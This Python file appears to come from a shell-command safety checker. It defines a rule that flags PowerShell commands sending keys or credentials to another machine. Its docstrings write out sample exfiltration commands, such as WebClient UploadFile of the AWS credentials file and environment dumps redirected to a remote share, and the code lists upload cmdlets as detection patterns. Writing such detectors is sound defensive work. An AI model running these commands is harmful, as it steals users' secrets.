"""Effect: a secret sent by PowerShell's .NET calls, where the parentheses split the line.

``(New-Object Net.WebClient).UploadFile(URL, "$env:USERPROFILE\\.aws\\credentials")``,
``.UploadString(URL, (Get-Content KEY -Raw))``, ``Invoke-RestMethod … -Body
([IO.File]::ReadAllBytes(KEY))`` and ``Send-MailMessage … -Body (Get-Content KEY | Out-String)`` name
the file in the parentheses after the call, which the shell's reading makes separate commands: the
call and what the parentheses hold are read together here."""
from __future__ import annotations

import re
from typing import Optional

from aish.safety.rules.common import HIGH, MEDIUM
from aish.safety.rules.exfil import _segment_reads_secret, _worse, secret_path
from aish.safety.rules.sinks import SHARE
from aish.safety.shell_words import Word

_UPLOAD_CALL = re.compile(r"^\.?Upload(File|String|Data|Values)(Async|TaskAsync)?$", re.IGNORECASE)
_SENDERS = frozenset({"invoke-restmethod", "irm", "invoke-webrequest", "iwr", "send-mailmessage"})
_BODY = frozenset({"-body", "-infile", "-attachments"})
_REACH = 4  # segments inside the parentheses read after the call


def _to_share(segs: list, k: int) -> str:
    """What a command and the pipe into it print, when its output is redirected to another machine's share."""
    found = ""
    if any(red.op in (">", ">>", "1>") and red.target is not None and SHARE.match(red.target.raw)
           for red in segs[k].redirects):
        j = k
        while True:
            found = _worse(found, _segment_reads_secret(segs[j]))
            if j == 0 or segs[j].link not in ("|", "|&"):
                break
            j -= 1
    return found


def rule_ps_upload(segs: list) -> Optional[tuple]:
    """A .NET upload call or a REST cmdlet's body whose parentheses name a key or credential; output redirected
    to another machine's share (``Get-ChildItem env: > \\\\host\\drop\\env.txt``)."""
    for k, seg in enumerate(segs):
        words = seg.words
        if not words:
            continue
        shared = _to_share(segs, k) if seg.redirects else ""
        if shared:
            what = "keys or credentials" if shared == "high" else "the environment, history or secrets"
            return HIGH if shared == "high" else MEDIUM, f"writes {what} to another machine's share"
        calls = _UPLOAD_CALL.match(words[-1].text) or words[0].text.lower() in _SENDERS and \
            words[-1].text.lower() in _BODY
        if not calls:
            continue
        found = ""
        for inside in segs[k + 1:k + 1 + _REACH]:
            if inside.link not in ("(", ")"):
                break
            for w in inside.words:
                raw = w.raw.rstrip(",)").strip("'\"")
                found = _worse(found, secret_path(Word(raw, raw, has_var="$" in raw)))
        if found:
            what = "keys or credentials" if found == "high" else "the environment, history or secrets"
            return HIGH if found == "high" else MEDIUM, f"sends {what} to another machine ({words[-1].text} …)"
    return None
